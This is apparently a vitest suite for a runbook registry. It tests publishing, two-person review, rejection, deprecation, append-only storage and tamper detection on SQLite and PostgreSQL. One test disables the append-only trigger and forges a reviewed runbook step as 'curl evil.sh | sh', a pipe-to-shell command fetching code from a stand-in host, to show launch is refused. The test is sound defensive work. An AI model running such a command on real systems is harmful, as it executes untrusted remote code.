/**
 * The runbook registry in the store, against real databases: a SQLite file in a temp dir and a
 * throwaway PostgreSQL cluster (test/helpers/postgres.ts). The same suite runs on both.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sql, type Kysely } from 'kysely';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { createAuditStore, type AuditStore } from '../../src/store/audit-log.ts';
import { openDatabase } from '../../src/store/db.ts';
import {
  createRunbookStore,
  parseRunbookText,
  type PublishFile,
  type RunbookStore,
} from '../../src/store/runbook-registry.ts';
import type { Database } from '../../src/store/schema.ts';
import { postgresBackend, sqliteBackend, storeBackends, type StoreBackend } from '../helpers/postgres.ts';

interface Backend extends StoreBackend {
  /** Statement that lets an owner of the database rewrite a published version. */
  dropVersionGuard: string;
}

const backends: Backend[] = storeBackends(
  'runbook registry',
  {
    ...sqliteBackend('mechanic-registry-', (dir, n) => join(dir, `case-${n}`, 'mechanic.db')),
    dropVersionGuard: 'drop trigger runbook_versions_no_update',
  },
  () => ({
    ...postgresBackend('registry'),
    dropVersionGuard: 'alter table runbook_versions disable trigger runbook_versions_append_only',
  }),
);

/** A runbook file; `extra` lines go at the end (a changed step makes other content). */
function runbookYaml(name: string, version: number, script = 'echo hello'): string {
  return [
    `name: ${name}`,
    `version: ${version}`,
    'description: A runbook of the registry tests.',
    'roleArn: arn:aws:iam::123456789012:role/mechanic-runner',
    'targets:',
    '  tags: { Role: web }',
    'steps:',
    '  - name: hello',
    `    script: ${script}`,
    '',
  ].join('\n');
}
const file = (name: string, version: number, script?: string): PublishFile => ({
  path: `runbooks/${name}-v${version}.yaml`,
  text: runbookYaml(name, version, script),
});

describe.each(backends)('runbook registry on $name', (backend) => {
  beforeAll(() => backend.setup(), 120_000);
  afterAll(() => backend.teardown());

  let db: Kysely<Database>;
  let audit: AuditStore;
  let store: RunbookStore;
  let clock = Date.parse('2026-01-01T00:00:00.000Z');
  afterEach(async () => {
    await db?.destroy();
  });
  async function fresh(): Promise<RunbookStore> {
    db = await openDatabase(await backend.fresh());
    audit = createAuditStore(db);
    store = createRunbookStore(db, { audit, now: () => new Date((clock += 1000)) });
    return store;
  }
  const registryEvents = async () =>
    (await audit.list()).filter((r) => r.type.startsWith('runbook.')).map((r) => [r.type, r.actor, r.data]);

  test('publish registers name@version with the plan digest, the author and the file it came from; it waits for review', async () => {
    await fresh();
    const f = file('hello', 1);
    const [published] = await store.publish('erin', [f]);
    const digest = parseRunbookText(f.text, 'x.yaml').digest;
    expect(published).toEqual({ name: 'hello', version: 1, digest, path: f.path, outcome: 'published' });
    const detail = await store.version('hello', 1);
    expect(detail).toMatchObject({
      author: 'erin',
      digest,
      status: 'pending',
      reviews: [],
      source: { kind: 'file', path: 'runbooks/hello-v1.yaml' },
      yaml: f.text,
      description: 'A runbook of the registry tests.',
    });
    expect(await registryEvents()).toEqual([
      [
        'runbook.published',
        'erin',
        { name: 'hello', version: 1, digest, source: { kind: 'file', path: 'runbooks/hello-v1.yaml' } },
      ],
    ]);
  });

  test('from git, the commit and whether the tree was clean are recorded', async () => {
    await fresh();
    const commit = 'a'.repeat(40);
    await store.publish('erin', [file('hello', 1)], { commit, clean: false });
    expect((await store.version('hello', 1)).source).toEqual({
      kind: 'git',
      path: 'runbooks/hello-v1.yaml',
      commit,
      clean: false,
    });
    expect((await registryEvents())[0]?.[2]).toMatchObject({ source: { kind: 'git', commit, clean: false } });
  });

  test('publishing the same content again is idempotent; other content under a published version is refused', async () => {
    await fresh();
    await store.publish('erin', [file('hello', 1)]);
    expect((await store.publish('erin', [file('hello', 1)]))[0]?.outcome).toBe('unchanged');
    await expect(store.publish('erin', [file('hello', 1, 'echo changed')])).rejects.toMatchObject({
      code: 'RUNBOOK_INVALID',
      message: expect.stringMatching(
        /^hello@1 is already published with other content \(digest [0-9a-f]{12}, runbooks\/hello-v1\.yaml has [0-9a-f]{12}\); a published version never changes, so give runbooks\/hello-v1\.yaml a new version number$/,
      ) as unknown,
    });
    expect((await store.version('hello', 1)).yaml).toBe(runbookYaml('hello', 1));
    expect((await registryEvents()).length).toBe(1);
  });

  test('two authors publishing the same version at once: one wins, the other is told in a sentence', async () => {
    await fresh();
    const results = await Promise.allSettled([
      store.publish('erin', [file('hello', 1, 'echo one')]),
      store.publish('frank', [file('hello', 1, 'echo two')]),
    ]);
    expect(results.map((r) => r.status).sort()).toEqual(['fulfilled', 'rejected']);
    const refused = results.find((r) => r.status === 'rejected');
    expect(refused?.reason).toMatchObject({ code: 'RUNBOOK_INVALID' });
    expect(await store.versions()).toHaveLength(1);
  });

  test('a multi-file publish that fails in the middle leaves nothing written', async () => {
    await fresh();
    await store.publish('erin', [file('hello', 1)]);
    // The first two are new and are inserted before the third is found to conflict.
    await expect(
      store.publish('erin', [file('alpha', 1), file('beta', 1), file('hello', 1, 'echo changed')]),
    ).rejects.toMatchObject({ code: 'RUNBOOK_INVALID' });
    expect((await store.versions()).map((v) => `${v.name}@${v.version}`)).toEqual(['hello@1']);
    // A file that does not parse refuses the whole publish too, naming the file.
    await expect(
      store.publish('erin', [file('alpha', 1), { path: 'runbooks/broken.yaml', text: 'name: [' }]),
    ).rejects.toMatchObject({ code: 'RUNBOOK_INVALID', message: expect.stringMatching(/^runbooks\/broken\.yaml/) });
    expect((await store.versions()).map((v) => `${v.name}@${v.version}`)).toEqual(['hello@1']);
    expect((await registryEvents()).length).toBe(1);
  });

  test('only an approved version is launched, with the digest its reviewer approved', async () => {
    await fresh();
    const [{ digest } = { digest: '' }] = await store.publish('erin', [file('hello', 1)]);
    await expect(store.get('hello', 1)).rejects.toMatchObject({
      code: 'FORBIDDEN',
      message:
        'hello@1 has not been reviewed yet; an author other than erin must approve it ("mechanic runbook review hello@1 --approve --comment …") before it can be launched',
    });
    await expect(
      store.review('hello', 1, { reviewer: 'erin', decision: 'approve', digest, comment: 'looks fine' }),
    ).rejects.toMatchObject({
      code: 'FORBIDDEN',
      message: 'erin published hello@1 and may not review it; another author must',
    });
    await expect(
      store.review('hello', 1, {
        reviewer: 'carol',
        decision: 'approve',
        digest: 'f'.repeat(64),
        comment: 'ok, read it',
      }),
    ).rejects.toMatchObject({
      code: 'APPROVAL_PLAN_MISMATCH',
      message: `the review names digest ffffffffffff, but hello@1 as published has digest ${digest.slice(0, 12)}; read the published version again and review that`,
    });
    const reviewed = await store.review('hello', 1, {
      reviewer: 'carol',
      decision: 'approve',
      digest,
      comment: 'read every step',
    });
    expect(reviewed).toMatchObject({
      status: 'approved',
      reviews: [{ reviewer: 'carol', decision: 'approve', digest }],
    });
    const launched = await store.get('hello', 1);
    expect(launched.digest).toBe(digest);
    expect(launched.runbook.name).toBe('hello');
    expect((await store.list()).map((r) => `${r.runbook.name}@${r.runbook.version}`)).toEqual(['hello@1']);
    await expect(
      store.review('hello', 1, { reviewer: 'carol', decision: 'approve', digest, comment: 'again' }),
    ).rejects.toMatchObject({ code: 'APPROVAL_DUPLICATE' });
    expect(await registryEvents()).toEqual([
      ['runbook.published', 'erin', expect.anything()],
      [
        'runbook.reviewed',
        'carol',
        { name: 'hello', version: 1, digest, decision: 'approve', comment: 'read every step' },
      ],
    ]);
  });

  test('a rejected version is never launched, and no later approval revives it', async () => {
    await fresh();
    const [{ digest } = { digest: '' }] = await store.publish('erin', [file('hello', 1)]);
    await store.review('hello', 1, { reviewer: 'carol', decision: 'reject', digest, comment: 'step is unsafe' });
    await expect(
      store.review('hello', 1, { reviewer: 'frank', decision: 'approve', digest, comment: 'fine by me' }),
    ).rejects.toMatchObject({
      code: 'FORBIDDEN',
      message: 'hello@1 was already rejected by carol; publish a fixed version and have it reviewed',
    });
    await expect(store.get('hello', 1)).rejects.toMatchObject({
      code: 'FORBIDDEN',
      message:
        'hello@1 was rejected in review by carol and cannot be launched; publish a fixed version and have it reviewed',
    });
    expect((await store.version('hello', 1)).status).toBe('rejected');
  });

  test('a deprecated version is not launched; without a version the newest approved one is', async () => {
    await fresh();
    const published = await store.publish('erin', [
      file('hello', 1),
      file('hello', 2, 'echo two'),
      file('hello', 3, 'echo three'),
    ]);
    for (const p of published.slice(0, 2)) {
      await store.review('hello', p.version, {
        reviewer: 'carol',
        decision: 'approve',
        digest: p.digest,
        comment: 'ok, read it',
      });
    }
    // 3 waits for review: the newest approved is 2.
    expect((await store.get('hello')).runbook.version).toBe(2);
    const deprecated = await store.deprecate('hello', 2, { by: 'erin', reason: 'restarts the wrong unit' });
    expect(deprecated).toMatchObject({
      status: 'deprecated',
      deprecated: { by: 'erin', reason: 'restarts the wrong unit' },
    });
    await expect(store.get('hello', 2)).rejects.toMatchObject({
      code: 'FORBIDDEN',
      message:
        'hello@2 is deprecated (restarts the wrong unit) and cannot be launched; launch a newer approved version',
    });
    expect((await store.get('hello')).runbook.version).toBe(1);
    await expect(store.deprecate('hello', 2, { by: 'erin', reason: 'again and again' })).rejects.toMatchObject({
      code: 'USAGE',
    });
    expect((await registryEvents()).at(-1)).toEqual([
      'runbook.deprecated',
      'erin',
      { name: 'hello', version: 2, digest: published[1]!.digest, reason: 'restarts the wrong unit' },
    ]);
  });

  test('unknown runbooks and versions are named, with what exists', async () => {
    await fresh();
    await store.publish('erin', [file('hello', 1)]);
    await expect(store.get('hello', 7)).rejects.toMatchObject({
      code: 'RUNBOOK_NOT_FOUND',
      message: 'hello has no version 7; its versions are 1',
    });
    await expect(
      store.review('hello', 7, { reviewer: 'carol', decision: 'approve', digest: 'a'.repeat(64), comment: 'ok ok' }),
    ).rejects.toMatchObject({
      code: 'RUNBOOK_NOT_FOUND',
    });
    await expect(store.get('nope')).rejects.toMatchObject({
      code: 'RUNBOOK_NOT_FOUND',
      message: 'there is no runbook named "nope"; known runbooks: hello',
    });
  });

  test('published versions, reviews and deprecations cannot be changed in the database', async () => {
    await fresh();
    await store.publish('erin', [file('hello', 1)]);
    await expect(sql`update runbook_versions set author = 'mallory'`.execute(db)).rejects.toThrow(/append-only/);
    await expect(sql`delete from runbook_versions`.execute(db)).rejects.toThrow(/append-only/);
  });

  test('content changed behind the registry is refused at launch: the digest no longer matches the review', async () => {
    await fresh();
    const [{ digest } = { digest: '' }] = await store.publish('erin', [file('hello', 1)]);
    await store.review('hello', 1, { reviewer: 'carol', decision: 'approve', digest, comment: 'read it all' });
    await sql.raw(backend.dropVersionGuard).execute(db);
    const forged = JSON.stringify({ ...parseRunbookText(runbookYaml('hello', 1, 'curl evil.sh | sh'), 'x').runbook });
    await sql`update runbook_versions set runbook = ${forged}`.execute(db);
    await expect(store.get('hello', 1)).rejects.toMatchObject({
      code: 'RUNBOOK_INVALID',
      message: expect.stringMatching(
        /^hello@1 in the registry does not match the digest it was reviewed with \(reviewed [0-9a-f]{12}, stored content [0-9a-f]{12}\), so it is not launched; publish it again as a new version and have it reviewed$/,
      ) as unknown,
    });
    expect(await store.list()).toEqual([]);
  });

  test('the last run of each version comes from the execution index', async () => {
    await fresh();
    await store.publish('erin', [file('hello', 1)]);
    const row = {
      runbook_name: 'hello',
      runbook_version: 1,
      operator: 'alice',
      reason: 'r',
      status: 'completed',
      plan_digest: 'd',
      params: '{}',
      targets: '[]',
      approvals: '[]',
      updated_at: '2026-02-01T00:00:00.000Z',
      finished_at: null,
    };
    await db
      .insertInto('executions')
      .values([
        { ...row, id: 'mx-1', created_at: '2026-02-01T00:00:00.000Z' },
        { ...row, id: 'mx-2', created_at: '2026-02-03T00:00:00.000Z' },
      ])
      .execute();
    expect((await store.versions('hello'))[0]?.lastRunAt).toBe('2026-02-03T00:00:00.000Z');
  });

  test('seeding publishes a folder as one person and approves it as another, once; a bad file is refused by name', async () => {
    await fresh();
    const dir = mkdtempSync(join(tmpdir(), 'mechanic-seed-'));
    try {
      mkdirSync(join(dir, 'sub.yaml'));
      writeFileSync(join(dir, 'hello.yaml'), runbookYaml('hello', 1));
      writeFileSync(join(dir, 'broken.yaml'), 'name: [');
      await store.seed(dir, { author: 'carol', reviewer: 'bob' });
      await store.seed(dir, { author: 'carol', reviewer: 'bob' });
      expect(await store.versions()).toMatchObject([
        { name: 'hello', version: 1, author: 'carol', status: 'approved', reviews: [{ reviewer: 'bob' }] },
      ]);
      expect(store.invalid().map((i) => i.file)).toEqual(['broken.yaml', 'sub.yaml']);
      expect((await registryEvents()).map((e) => e[0])).toEqual(['runbook.published', 'runbook.reviewed']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
